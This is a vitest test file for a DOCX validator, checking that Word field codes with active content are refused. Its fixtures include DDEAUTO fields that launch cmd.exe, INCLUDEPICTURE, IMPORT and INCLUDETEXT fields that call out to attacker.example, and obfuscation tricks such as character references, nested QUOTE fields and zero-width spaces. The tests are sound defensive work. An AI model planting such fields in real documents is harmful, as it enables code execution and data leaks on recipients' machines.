import { describe, expect, it } from "vitest";
import { reasonFor, withBody } from "../../../tests/support/active-content";
import { fldChar, field, instrText, paragraph, run } from "../../../tests/support/wordml";

describe("checkDocx and active content", () => {
  describe("fields", () => {
    const refused = async (body: string) =>
      expect(await reasonFor(withBody(paragraph(body)))).toBe("active_content");

    it("refuses DDEAUTO split over several instrText runs", async () => {
      await refused(field(" DD", "EAUTO c:\\\\windows\\\\system32\\\\cmd.exe ", '"/k calc"'));
    });

    it("refuses DDE in a simple field", async () => {
      await refused(
        `<w:fldSimple w:instr='DDE "c:\\\\windows\\\\system32\\\\cmd.exe" "/k calc"'>${run("<w:t>x</w:t>")}</w:fldSimple>`,
      );
    });

    it("refuses DDE written with character references", async () => {
      await refused(field("&#x44;&#68;EAUTO c:\\\\x.exe"));
      await refused(`<w:fldSimple w:instr="&#x44;DE x y"/>`);
    });

    it("refuses DDEAUTO in a CDATA section", async () => {
      await refused(
        fldChar("begin") +
          run("<w:instrText><![CDATA[ DDEAUTO c:\\\\x.exe ]]></w:instrText>") +
          fldChar("end"),
      );
    });

    it.each([
      ' INCLUDEPICTURE "http://attacker.example/p.png" \\* MERGEFORMATINET ',
      ' INCLUDETEXT "\\\\\\\\attacker.example\\\\share\\\\x.docx" ',
      " INCLUDETEXT notes.docx ",
      ' LINK Excel.Sheet.12 "c:\\\\book.xlsx" "Sheet1!R1C1" \\a ',
      ' IMPORT "http://attacker.example/p.wmf" ',
      ' DATABASE \\c "Provider=SQLOLEDB;Data Source=attacker.example" \\s "SELECT 1" ',
      "ddeauto c:\\\\x.exe",
      '"DDEAUTO" c:\\\\x.exe',
      "\u200bDDEAUTO c:\\\\x.exe",
    ])("refuses the field %j", async (code) => {
      await refused(field(code));
    });

    it("refuses a field whose type is computed by a nested field", async () => {
      await refused(
        fldChar("begin") +
          field(" QUOTE 68 68 69 65 85 84 79 ") +
          instrText(" c:\\\\x.exe ") +
          fldChar("separate") +
          fldChar("end"),
      );
    });

    it("refuses a field code in a tracked deletion", async () => {
      await refused(
        fldChar("begin") +
          run("<w:delInstrText> DDEAUTO c:\\\\x.exe</w:delInstrText>") +
          fldChar("end"),
      );
    });

    it("refuses field code written as plain text between begin and separate", async () => {
      await refused(fldChar("begin") + run("<w:t>DDEAUTO c:\\\\x.exe</w:t>") + fldChar("end"));
    });

    it("refuses field code text outside fldChar markers", async () => {
      await refused(instrText(" DDEAUTO c:\\\\x.exe "));
    });

    it("refuses a field still open at the end of the part", async () => {
      await refused(fldChar("begin") + instrText(" DDEAUTO c:\\\\x.exe "));
    });

    it("refuses a field padded past the kept length", async () => {
      await refused(field(" ".repeat(10_000), '"'.repeat(1_000), "DDEAUTO c:\\\\x.exe"));
    });
  });
});
